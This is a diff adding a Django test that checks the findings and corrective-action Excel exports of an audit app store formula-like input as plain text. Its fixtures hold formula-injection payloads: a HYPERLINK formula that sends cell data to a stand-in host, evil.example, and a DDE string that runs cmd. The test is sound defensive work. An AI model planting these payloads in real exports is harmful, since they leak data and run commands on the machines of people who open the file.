@@ -45,3 +45,31 @@ def test_action_log_has_a_row_per_action_and_flags_overdue(client, secretary, ac
     overdue_column = header.index("Quá hạn")
     assert by_number[late.number][overdue_column] == "có"
     assert by_number[action.number][overdue_column] in ("", None)
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm để xem")'
+DDE = "=cmd|' /C calc'!A0"
+
+
+def test_formulas_typed_into_findings_and_actions_stay_text_in_both_logs(client, secretary, finding, owner):
+    """CSV/formula injection: text typed as a formula is written with a leading apostrophe, as text."""
+    Finding.objects.filter(pk=finding.pk).update(description="@SUM(1+1)", evidence="-2+3")
+    finding.refresh_from_db()
+    action = finding.raise_corrective_action(
+        finding.recorded_by, owner=owner, due_date=datetime.date.today() + datetime.timedelta(days=60)
+    )
+    action.plan(owner, correction=HYPERLINK, root_cause=DDE, action_plan="+84 912 345 678")
+    client.force_login(secretary)
+    for url, typed in (
+        (reverse("audits_finding:export"), ["@SUM(1+1)", "-2+3"]),
+        (reverse("audits_action:export"), [HYPERLINK, DDE, "+84 912 345 678"]),
+    ):
+        response = client.get(url)
+        sheet = load_workbook(BytesIO(response.content)).active
+        cells = [cell for row in sheet.iter_rows() for cell in row]
+        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+        texts = {cell.value for cell in cells}
+        for value in typed:
+            assert "'" + value in texts and value not in texts
+        # Numbers stay numbers (the row number).
+        assert sheet["A2"].value == 1 and sheet["A2"].data_type == "n"
